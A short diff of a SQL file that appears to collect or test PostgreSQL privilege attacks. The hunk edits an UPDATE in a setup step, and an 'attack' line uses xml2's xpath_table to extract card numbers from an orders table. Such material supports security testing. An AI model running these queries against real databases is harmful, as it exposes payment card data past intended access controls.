@@ -91,7 +91,7 @@ SELECT * FROM connectby('orders', 'card', 'status', 'new', 0) AS t(card text, st
 -- needs SELECT on orders
 -- setup
 CREATE EXTENSION xml2;
-UPDATE orders SET status = format('<a>%s</a>', card);
+UPDATE orders SET status = format('<a>%s</a>', card) WHERE id > 0;
 -- attack
 SELECT * FROM xpath_table('id', 'status', 'shop.orders', '/a', 'true') AS t (id int, card text);
 
